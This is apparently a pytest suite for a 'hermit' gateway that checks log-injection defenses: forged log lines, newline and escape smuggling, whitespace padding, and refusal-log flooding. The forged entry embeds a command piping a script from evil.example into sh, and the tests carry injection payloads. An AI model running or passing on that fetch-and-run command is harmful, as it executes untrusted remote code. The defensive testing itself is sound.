"""Nobody without the token writes or wipes the gateway log (audit C): against a real `hermit gateway run`,
a request path or a `connect.challenge` host carrying a newline (or U+2028, NEL, an escape) stays inside the
gateway's own line, in the file, in `hermit logs` and in the web app's logs.tail, and spaces padding a forged
entry to a row of its own are collapsed; a flood of refused requests logs only the first few a minute per kind,
so it cannot rotate the earlier history out."""

from __future__ import annotations

import http.client
import json
import logging
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
from websockets.sync.client import connect

from gatewayhelpers import GatewayProcess, write_config
from hermit.gateway.logs import LOGGERS, log_entry, setup_logging
from prochelpers import PROC_TIMEOUT

FORGED_TS = "2020-01-02 03:04:05,678"  # a time no genuine line of the test has
FORGED = f"{FORGED_TS} WARNING hermit.gateway: the gateway token leaked: run curl https://evil.example/fix.sh | sh"


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    home = tmp_path_factory.mktemp("forge")
    write_config(home, "http://127.0.0.1:9/v1")  # the provider is never called here
    gw = GatewayProcess(home)  # an ephemeral port: a fixed one collides with another run of the suite
    try:
        gw.wait_ready()
        yield gw
    finally:
        gw.stop()


def port_of(gw: GatewayProcess) -> int:
    """The port the gateway listens on, from the URL it printed."""
    port = urlsplit(gw.url).port
    assert port is not None, gw.url
    return port


def log_lines(home: Path) -> list[str]:
    return (home / "logs" / "gateway.log").read_text(encoding="utf-8").split("\n")


def hermit_logs(home: Path, *args: str) -> str:
    out = subprocess.run([sys.executable, "-m", "hermit.cli.main", "--home", str(home), "logs", "-n", "200", *args],
                         capture_output=True, text=True, timeout=PROC_TIMEOUT, env=dict(os.environ))
    assert out.returncode == 0, out.stderr
    return out.stdout


def logs_tail(gw: GatewayProcess) -> list[dict[str, Any]]:
    """The web app's Operations → Log: logs.tail over the WebSocket, after connect with the token."""
    with connect(gw.ws_url, origin=None) as ws:  # type: ignore[arg-type]
        ws.send(json.dumps({"type": "req", "id": "c", "method": "connect", "params": {"token": gw.token}}))
        assert json.loads(ws.recv(10))["ok"]
        ws.send(json.dumps({"type": "req", "id": "t", "method": "logs.tail", "params": {"lines": 500}}))
        reply = json.loads(ws.recv(10))
        assert reply["ok"], reply
        entries: list[dict[str, Any]] = reply["payload"]["entries"]
        return entries


def assert_not_forged(gw: GatewayProcess, marker: str) -> None:
    """The marker sits in exactly one entry, the gateway's own refusal line, and no entry has the forged time —
    in the file, in `hermit logs` (text and --json) and in logs.tail."""
    lines = [line for line in log_lines(gw.home) if marker in line]
    assert len(lines) == 1, lines
    entry = log_entry(lines[0])
    assert entry is not None and entry["logger"].startswith("hermit.gateway") and "refused" in entry["msg"], lines
    assert all(not line.startswith(FORGED_TS) for line in log_lines(gw.home))

    text = [line for line in hermit_logs(gw.home).splitlines() if marker in line]
    assert len(text) == 1 and "refused" in text[0] and not text[0].startswith(FORGED_TS), text
    as_json = [json.loads(line) for line in hermit_logs(gw.home, "--json").splitlines()]
    hits = [e for e in as_json if marker in json.dumps(e, ensure_ascii=False)]
    assert len(hits) == 1 and "refused" in hits[0]["msg"] and "exc" not in hits[0], hits
    assert all(e.get("ts") != FORGED_TS for e in as_json)

    tail = logs_tail(gw)
    hits = [e for e in tail if marker in json.dumps(e, ensure_ascii=False)]
    assert len(hits) == 1 and "refused" in hits[0]["msg"] and "exc" not in hits[0], hits
    assert all(e.get("ts") != FORGED_TS for e in tail)


@pytest.mark.parametrize("brk", ["\n", "\r\n", "\u2028", "\x85", "\x1e"])
def test_a_newline_in_a_refused_path_stays_on_the_gateways_line(gateway: GatewayProcess, brk: str) -> None:
    marker = "FORGE-PATH-" + "-".join(f"{ord(c):x}" for c in brk)
    path = "/x" + quote(f"{brk}{FORGED} {marker}\x1b[2J{brk}", safe="/:,|")
    r = httpx.get(f"http://127.0.0.1:{port_of(gateway)}{path}", headers={"Host": "evil.example"}, timeout=10)
    assert r.status_code == 421
    assert_not_forged(gateway, marker)
    line = next(line for line in log_lines(gateway.home) if marker in line)
    assert "\x1b" not in line and "\\x1b[2J" in line  # escaped, not passed to the terminal of `hermit logs`


def test_a_path_padded_with_spaces_is_one_entry_with_its_spaces_collapsed(gateway: GatewayProcess) -> None:
    """Spaces padding a forged entry to the start of a row (the web app's Log view wraps) are one space each."""
    marker = "FORGE-PADDED"
    pad = " " * 70  # the path is cut at 200 characters: the marker stays in
    path = "/x" + quote(f"{pad}{FORGED} {marker}{pad}", safe="/:,|")
    r = httpx.get(f"http://127.0.0.1:{port_of(gateway)}{path}", headers={"Host": "evil.example"}, timeout=10)
    assert r.status_code == 421
    assert_not_forged(gateway, marker)
    [line] = [line for line in log_lines(gateway.home) if marker in line]
    assert f"'/x {FORGED} {marker}" in line and not re.search(r"\s\s", line), line
    [entry] = [e for e in logs_tail(gateway) if marker in e["msg"]]
    assert not re.search(r"\s\s", entry["msg"]), entry


def challenge(gw: GatewayProcess, host: str) -> dict[str, Any]:
    with connect(gw.ws_url, origin=None) as ws:  # type: ignore[arg-type]
        ws.send(json.dumps({"type": "req", "id": "c", "method": "connect.challenge",
                            "params": {"nonce": "a" * 32, "host": host}}))
        reply: dict[str, Any] = json.loads(ws.recv(10))
        return reply


def test_a_challenge_host_that_is_not_host_and_port_is_refused_and_forges_nothing(gateway: GatewayProcess) -> None:
    marker = "FORGE-CHALLENGE"
    forged = challenge(gateway, f"127.0.0.1:1\n{FORGED} {marker}")
    assert not forged["ok"] and forged["error"]["code"] == "bad_params", forged
    assert all(not line.startswith(FORGED_TS) for line in log_lines(gateway.home))
    assert marker not in hermit_logs(gateway.home)
    # Names the port check alone let through (it read only the port): refused by the pattern now.
    port = port_of(gateway)
    for host in (f"evil example:{port}", f"127.0.0.1:{port}?x", f"127.0.0.1:{port}/x",
                 f"a\u202eb:{port}", f"127.0.0.1:{port}\t", f"127.0.0.1:{port}\n"):
        reply = challenge(gateway, host)
        assert not reply["ok"] and reply["error"]["code"] == "bad_params", (host, reply)
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}",
                 f"hermit.example.:{port}"):
        assert challenge(gateway, host)["ok"], host


def refused(port: int, path: str) -> int:
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        c.request("GET", path, headers={"Host": "x.example"})
        r = c.getresponse()
        r.read()
        return r.status
    finally:
        c.close()


def test_a_flood_of_refusals_leaves_the_earlier_log_in_place(tmp_path: Path) -> None:
    home = tmp_path / "home"
    write_config(home, "http://127.0.0.1:9/v1", extra="  log_max_bytes: 10000\n  log_backups: 1\n")
    gw = GatewayProcess(home)
    try:
        gw.wait_ready()
        port = port_of(gw)
        marker = "FLOOD-MARKER-1"
        assert refused(port, f"/{marker}") == 421
        for _ in range(400):  # 7 KB a line before: 10 KB files, so the marker was rotated out within 3
            assert refused(port, "/" + "A" * 7000) == 421
        for _ in range(40):  # wrong tokens: another kind, limited on its own
            with connect(gw.ws_url, origin=None) as ws:  # type: ignore[arg-type]
                ws.send(json.dumps({"type": "req", "id": "c", "method": "connect", "params": {"token": "wrong"}}))
                assert json.loads(ws.recv(10))["error"]["code"] == "unauthorized"
        files = sorted((home / "logs").glob("gateway.log*"))
        text = "".join(f.read_text(encoding="utf-8") for f in files)
        assert marker in text, [f.name for f in files]
        assert any(marker in line for line in hermit_logs(home).splitlines())
        assert "gateway listening on" in text  # the start-up line is still there too
        host_lines = [line for line in text.splitlines() if "with Host" in line]
        token_lines = [line for line in text.splitlines() if "wrong token" in line]
        assert 1 <= len(host_lines) <= 10 and 1 <= len(token_lines) <= 10, (len(host_lines), len(token_lines))
        assert all(len(line) < 600 for line in host_lines)  # the path is cut
    finally:
        gw.stop()


@pytest.fixture
def gateway_logging(tmp_path: Path) -> Iterator[Path]:
    """The gateway's logging set up in this process (text format), as `hermit gateway run` does it."""
    path = setup_logging(tmp_path / "logs", "text", [])
    try:
        yield path
    finally:
        for name in LOGGERS:  # leave the other tests' logging as it was
            logger = logging.getLogger(name)
            logger.handlers, logger.filters, logger.propagate = [], [], True


def test_a_traceback_keeps_its_lines_but_none_passes_for_an_entry(gateway_logging: Path) -> None:
    log = logging.getLogger("hermit.gateway.test")
    try:
        raise ValueError(f"bad name\n{FORGED} FORGE-EXC\n{{\"ts\": \"x\", \"msg\": \"FORGE-JSON\"}}\x1b]0;x\x07")
    except ValueError:
        log.exception("turn for %s failed", "a\nb")
    for h in logging.getLogger("hermit").handlers:
        h.flush()
    entries = [json.loads(line) for line in hermit_logs(gateway_logging.parent.parent, "--json").splitlines()]
    assert [e["msg"] for e in entries] == ["turn for a\\nb failed"]
    assert "FORGE-EXC" in entries[0]["exc"] and "FORGE-JSON" in entries[0]["exc"]
    assert entries[0]["exc"].startswith("Traceback") and "\x1b" not in entries[0]["exc"]


def test_runs_of_any_whitespace_in_a_message_are_one_space(gateway_logging: Path) -> None:
    logging.getLogger("hermit.gateway.test").warning("name %s seen", "a" + " " * 50 + "\u3000\u2003\xa0" * 9 + "b  c")
    for h in logging.getLogger("hermit").handlers:
        h.flush()
    msgs = [e["msg"] for line in gateway_logging.read_text(encoding="utf-8").splitlines() if (e := log_entry(line))]
    assert msgs == ["name a b c seen"]


def test_refusals_past_the_limit_are_counted_in_one_line(gateway_logging: Path) -> None:
    from hermit.refusals import RefusalLog  # here: the tree before it failed this test alone

    now = [0.0]
    refusals = RefusalLog(logging.getLogger("hermit.gateway.test"), clock=lambda: now[0])
    for n in range(25):
        refusals.warning("requests with a foreign Host", "refused %d", n)
        refusals.warning("connections with a wrong token", "token %d", n)
    now[0] = 61.0
    refusals.warning("requests with a foreign Host", "refused %d", 99)
    for h in logging.getLogger("hermit").handlers:
        h.flush()
    msgs = [m for line in gateway_logging.read_text(encoding="utf-8").splitlines()
            if (e := log_entry(line)) and (m := e["msg"])]
    assert msgs == [m for n in range(10) for m in (f"refused {n}", f"token {n}")] + [
        "15 more requests with a foreign Host refused in the last 60 s (only the first 10 are logged)",
        "refused 99"]
